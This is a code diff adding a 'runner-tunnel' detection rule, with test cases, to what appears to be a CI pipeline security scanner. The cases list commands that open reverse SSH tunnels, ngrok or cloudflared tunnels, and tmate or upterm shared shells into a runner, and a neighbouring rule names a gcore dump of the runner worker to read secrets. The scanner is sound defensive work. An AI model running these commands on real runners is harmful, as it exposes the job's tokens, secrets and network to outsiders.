@@ -916,6 +916,21 @@ var registry = []Rule{
 			// An installer telling the user how to start the agent it installed.
 			{"install.sh", "echo -e \"\nInstalled to ${D}\n\nYou can now start the agent!\n\n  ${D}/bin/buildkite-agent start\n\"", 0, true},
 		}},
+	{"runner-tunnel", KindRunner, High, "opens a way into the runner from outside (a reverse tunnel or a shared terminal)",
+		"whoever holds the other end gets a shell or a port on the runner while the job runs, with its token, secrets and network, and the job can be kept running to hold it", []Case{
+			{".build.yml", "image: alpine/edge\ntasks:\n  - tunnel: |\n      ssh -o StrictHostKeyChecking=no -f -N -R 2222:localhost:22 relay@ci.x.invalid\n      sleep 21600", 4, false},
+			{"x.sh", "ssh -fNR2222:localhost:22 u@x.invalid", 0, false},
+			{"x.sh", "autossh -M 0 -o RemoteForward=\"2222 localhost:22\" u@x.invalid", 0, false},
+			{"x.sh", "ngrok tcp 22 --authtoken \"$T\" &", 0, false},
+			{"x.sh", "cloudflared tunnel --url ssh://localhost:22", 0, false},
+			{"x.sh", "tmate -S /tmp/t.sock new-session -d && tmate -S /tmp/t.sock wait tmate-ready", 0, false},
+			{".gitlab-ci.yml", "debug:\n  script:\n    - upterm host --force-command 'bash' -- bash", 3, false},
+			// Forwards out of the runner, and host keys, open no way in.
+			{"x.sh", "ssh -L 5432:db.internal:5432 -N bastion.x.invalid &", 0, true},
+			{"x.sh", "ssh-keygen -R github.com", 0, true},
+			{"x.sh", "ngrok version", 0, true},
+			{"x.sh", "sudo apt-get install -y tmate", 0, true},
+		}},
 	{"runner-memory-read", KindRunner, High, "reads the runner worker's memory",
 		"the Runner.Worker process holds every secret of the job unmasked; dumping its memory is how the tj-actions compromise printed them", []Case{
 			{"x.sh", "sudo gcore -o /tmp/w $(pgrep -f Runner.Worker)", 0, false},
